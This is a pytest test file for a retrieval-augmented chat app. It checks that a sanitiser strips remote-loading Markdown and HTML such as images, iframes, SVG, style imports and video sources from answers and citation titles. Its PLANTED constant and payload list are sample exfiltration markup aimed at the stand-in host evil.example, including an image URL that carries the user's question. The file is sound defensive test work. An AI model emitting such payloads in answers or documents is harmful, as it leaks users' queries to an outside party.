"""Nothing in a rendered answer, question, citation title or passage list loads from another host: a document
planted with a Markdown image whose address carries the user's question must not make the browser send it."""

from __future__ import annotations

import html

import pytest

from ragapp.core.events import AnswerEvent, TokenEvent
from ragapp.core.types import Chunk, Citation, RetrievedChunk
from ragapp.ui.markup import no_remote_content
from ragapp.ui.render import TurnView, citation_message, consulted_message

PLANTED = "Sure! ![logo](https://evil.example/c.png?q=warranty+of+the+V2) See [our site](https://evil.example/x)."


@pytest.mark.parametrize(
    "text",
    [
        PLANTED,
        '<img src="https://evil.example/a.png">',
        "<IMG SRC=//evil.example/a.png>",
        '<iframe src="https://evil.example/"></iframe>',
        "<svg><image href='https://evil.example/i'/></svg>",
        "<style>@import url(https://evil.example/s.css)</style>",
        "<video><source src=https://evil.example/v.mp4></video>",
        "![](//evil.example/protocol-relative.png)",
    ],
)
def test_no_markup_that_loads_from_another_host_survives(text: str) -> None:
    shown = no_remote_content(text)
    assert "![" not in shown
    assert "<img" not in shown.lower() and "<iframe" not in shown.lower() and "<svg" not in shown.lower()
    assert "<style" not in shown.lower() and "<source" not in shown.lower()
    assert "](https://" not in shown and "](//" not in shown


def test_the_address_stays_readable_and_ordinary_text_is_untouched() -> None:
    shown = no_remote_content(PLANTED)
    assert "://" not in shown  # a bare address would become a link (GFM autolink)
    read = html.unescape(shown)  # as the reader sees it
    assert "🖼 logo (https://evil.example/c.png?q=warranty+of+the+V2)" in read
    assert "our site (https://evil.example/x)" in read
    plain = "Rinse the filter every **14 days** [1]. Use <mark>only</mark> water; 3 < 5."
    assert no_remote_content(plain) == plain


def test_the_answer_bubble_streamed_and_final_is_neutralised() -> None:
    view = TurnView()
    view.apply(TokenEvent(PLANTED))
    assert "![" not in str(view.messages()[-1].content)
    view.apply(AnswerEvent(PLANTED, (), grounded=True))
    assert "![" not in str(view.messages()[-1].content)


def test_document_names_are_shown_as_text_in_citation_titles_and_the_consulted_list() -> None:
    chunk = Chunk("d-0", "d", 0, "text", "![x](https://evil.example/n.png) *bold*.md", page=2)
    title = str(citation_message(Citation(1, chunk, 0.5)).metadata["title"])
    assert "![" not in title and "\\*bold\\*" in title
    listed = str(consulted_message((RetrievedChunk(chunk, 0.1, {}, {}),)).content)
    assert "![" not in listed
